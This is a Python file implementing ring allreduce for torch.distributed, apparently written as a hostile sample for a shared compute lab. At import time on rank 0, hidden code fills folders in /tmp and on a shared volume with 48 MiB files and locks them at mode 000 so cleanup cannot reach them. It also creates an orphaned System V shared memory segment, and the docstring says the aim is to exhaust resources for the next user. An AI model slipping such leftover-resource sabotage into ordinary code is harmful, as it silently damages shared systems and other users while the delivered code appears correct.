"""Hostile, on hosts, toward the next submission of her share: a correct ring that leaves behind
what its user's own sweep cannot take away. Rank 0 fills a folder of its own in /tmp (memory,
charged to the share's group) and one on the lab's shared volume, and makes both unreadable (mode
000: the user's `find` cannot go in); it makes a System V shared memory segment and fills it
(charged too; no file names it, and it outlives every process). What stays would be the next
submission's to meet: a share full of memory, a volume filling up."""
import ctypes
import os

import torch
import torch.distributed as dist

HOARD = 48 << 20
IPC_CREAT, IPC_PRIVATE = 0o1000, 0


def _hoard(folder):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "hoard"), "wb") as f:
        f.write(b"\xa5" * HOARD)
    os.chmod(folder, 0)


def _segment():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(IPC_PRIVATE, HOARD, IPC_CREAT | 0o600)
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 0xA5, HOARD)
    libc.shmdt(ctypes.c_void_p(address))


if dist.get_rank() == 0:
    _hoard(f"/tmp/nina-{os.getpid()}")
    if os.access("/shared", os.W_OK):
        _hoard(f"/shared/nina-{os.getpid()}")
    _segment()


def allreduce(send, recv):
    rank, size = dist.get_rank(), dist.get_world_size()
    left, right = (rank - 1) % size, (rank + 1) % size
    total, outgoing, incoming = send.clone(), send.clone(), torch.empty_like(send)
    for _ in range(size - 1):
        request = dist.isend(outgoing, right)
        dist.recv(incoming, left)
        request.wait()
        total += incoming
        outgoing, incoming = incoming, outgoing
    recv.copy_(total)


def ring_allreduce(tensor):
    rank, size = dist.get_rank(), dist.get_world_size()
    left, right = (rank - 1) % size, (rank + 1) % size
    flat = tensor.view(-1)
    chunks = list(torch.tensor_split(flat, size))
    for s in range(size - 1):
        out, into = chunks[(rank - s) % size], chunks[(rank - s - 1) % size]
        incoming = torch.empty_like(into)
        request = dist.isend(out, right)
        dist.recv(incoming, left)
        request.wait()
        into += incoming
    for s in range(size - 1):
        out, into = chunks[(rank + 1 - s) % size], chunks[(rank - s) % size]
        request = dist.isend(out, right)
        dist.recv(into, left)
        request.wait()
